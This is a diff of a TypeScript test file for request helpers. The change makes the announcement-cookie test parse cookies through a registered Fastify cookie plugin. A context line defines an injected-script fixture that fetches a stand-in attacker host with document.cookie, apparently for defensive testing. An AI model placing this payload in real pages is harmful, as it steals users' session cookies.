@@ -25,14 +25,18 @@ const INLINE_SCRIPT = 'self.$_TSR={}';
 const INJECTED_SCRIPT = "fetch('https://evil.test/?c='+document.cookie)";
 
 describe('request helpers', () => {
-  it('reads the announcement cookie among others', () => {
-    // As @fastify/cookie parses a Cookie header into request.cookies.
-    const dismissed = (header: string) => isAnnouncementDismissed(fastifyCookie.parse(header));
+  it('reads the announcement cookie among others', async () => {
+    // As @fastify/cookie parses a Cookie header into request.cookies (its parser loads with the plugin: the
+    // module's own `parse` works only once some app has registered it, so this file would depend on the order).
+    const withCookies = Fastify();
+    await withCookies.register(fastifyCookie).ready();
+    const dismissed = (header: string) => isAnnouncementDismissed(withCookies.parseCookie(header));
     expect(isAnnouncementDismissed(undefined)).toBe(false);
     expect(dismissed('a=1; announcementDismissed=1')).toBe(true);
     expect(dismissed('announcementDismissed=1')).toBe(true);
     expect(dismissed('announcementDismissed=0; b=2')).toBe(false);
     expect(dismissed('xannouncementDismissed=1')).toBe(false);
+    await withCookies.close();
   });
 
   it('keys pages by path, ignoring query strings that do not change the page', () => {
